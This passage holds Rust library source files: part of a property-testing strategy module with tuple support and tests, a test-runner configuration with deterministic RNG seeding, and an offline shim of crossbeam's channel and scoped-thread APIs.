    fn generate(&self, rng: &mut StdRng) -> String {
        crate::regex::generate_matching(self, rng)
    }
}

// ---- tuples ------------------------------------------------------------

macro_rules! tuple_strategy {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn generate(&self, rng: &mut StdRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    )*};
}

tuple_strategy! {
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
    (A: 0, B: 1, C: 2, D: 3, E: 4)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn ranges_and_tuples() {
        let mut rng = StdRng::seed_from_u64(1);
        let s = (1usize..5, 0.0f64..1.0);
        for _ in 0..100 {
            let (a, b) = s.generate(&mut rng);
            assert!((1..5).contains(&a));
            assert!((0.0..1.0).contains(&b));
        }
    }

    #[test]
    fn union_picks_all_options() {
        let mut rng = StdRng::seed_from_u64(2);
        let u = Union::new(vec![
            BoxedStrategy::new((0u64..1).prop_map(|_| "a")),
            BoxedStrategy::new((0u64..1).prop_map(|_| "b")),
        ]);
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..100 {
            seen.insert(u.generate(&mut rng));
        }
        assert_eq!(seen.len(), 2);
    }

    #[test]
    fn recursive_bottoms_out() {
        #[derive(Debug)]
        enum Tree {
            Leaf,
            Node(Vec<Tree>),
        }
        fn depth(t: &Tree) -> usize {
            match t {
                Tree::Leaf => 0,
                Tree::Node(children) => 1 + children.iter().map(depth).max().unwrap_or(0),
            }
        }
        let strat = (0u64..1)
            .prop_map(|_| Tree::Leaf)
            .prop_recursive(3, 8, 2, |inner| {
                crate::collection::vec(inner, 0..3).prop_map(Tree::Node)
            });
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..50 {
            assert!(depth(&strat.generate(&mut rng)) <= 3);
        }
    }
}
