//! Test-runner configuration and per-case RNG derivation.

use rand::rngs::StdRng;
use rand::SeedableRng;

/// Configuration for a `proptest!` block.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of accepted (non-rejected) cases to run per test.
    pub cases: u32,
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 128 }
    }
}

/// Why a test case did not pass.
#[derive(Debug)]
pub enum TestCaseError {
    /// `prop_assume!` failed — the case does not count.
    Reject(String),
    /// `prop_assert!`-style failure — the test fails.
    Fail(String),
}

fn fnv1a(s: &str) -> u64 {
    let mut hash = 0xcbf2_9ce4_8422_2325u64;
    for b in s.bytes() {
        hash ^= b as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// Deterministic RNG for case `case` of the named test. Failures
/// therefore reproduce exactly on re-run.
pub fn case_rng(test_name: &str, case: u64) -> StdRng {
    StdRng::seed_from_u64(fnv1a(test_name) ^ case.wrapping_mul(0x9e37_79b9_7f4a_7c15))
}
