//! Offline-compatible subset of the `crossbeam` API.
//!
//! - `crossbeam::channel`: unbounded MPSC channel over `std::sync::mpsc`.
//! - `crossbeam::thread::scope`: scoped threads over `std::thread::scope`,
//!   with crossbeam's `Result`-returning signature and the `&Scope`
//!   argument passed to spawned closures.

#![forbid(unsafe_code)]

pub mod channel {
    use std::sync::mpsc;

    pub use std::sync::mpsc::{RecvError, SendError, TryRecvError};

    pub struct Sender<T> {
        inner: mpsc::Sender<T>,
    }

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Self {
            Sender {
                inner: self.inner.clone(),
            }
        }
    }

    impl<T> Sender<T> {
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            self.inner.send(value)
        }
    }

    pub struct Receiver<T> {
        inner: mpsc::Receiver<T>,
    }

    impl<T> Receiver<T> {
        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            self.inner.try_recv()
        }

        pub fn recv(&self) -> Result<T, RecvError> {
            self.inner.recv()
        }

        pub fn try_iter(&self) -> impl Iterator<Item = T> + '_ {
            self.inner.try_iter()
        }
    }

    pub fn unbounded<T>() -> (Sender<T>, Receiver<T>) {
        let (tx, rx) = mpsc::channel();
        (Sender { inner: tx }, Receiver { inner: rx })
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn send_and_drain() {
            let (tx, rx) = unbounded();
            tx.send(1).unwrap();
            tx.clone().send(2).unwrap();
            assert_eq!(rx.try_recv().unwrap(), 1);
            assert_eq!(rx.try_recv().unwrap(), 2);
            assert!(rx.try_recv().is_err());
        }
    }
}

pub mod thread {
    use std::any::Any;

    /// Scope handle passed to `scope` closures and to spawned closures.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, T> ScopedJoinHandle<'scope, T> {
        pub fn join(self) -> Result<T, Box<dyn Any + Send + 'static>> {
            self.inner.join()
        }
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let inner = self.inner;
            ScopedJoinHandle {
                inner: inner.spawn(move || {
                    let scope = Scope { inner };
                    f(&scope)
                }),
            }
        }
    }

    /// Run `f` with a scope in which spawned threads may borrow from the
    /// environment; all threads are joined before this returns. Panics in
    /// spawned threads that were joined are surfaced by `join()`;
    /// unjoined-thread panics propagate, so this never returns `Err` —
    /// the `Result` exists for crossbeam signature compatibility.
    pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn Any + Send + 'static>>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        Ok(std::thread::scope(|s| {
            let scope = Scope { inner: s };
            f(&scope)
        }))
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn scoped_threads_borrow_and_join() {
            let data = vec![1, 2, 3];
            let total = scope(|s| {
                let mut handles = Vec::new();
                for chunk in data.chunks(1) {
                    handles.push(s.spawn(move |_| chunk.iter().sum::<i32>()));
                }
                handles.into_iter().map(|h| h.join().unwrap()).sum::<i32>()
            })
            .unwrap();
            assert_eq!(total, 6);
        }
    }
}
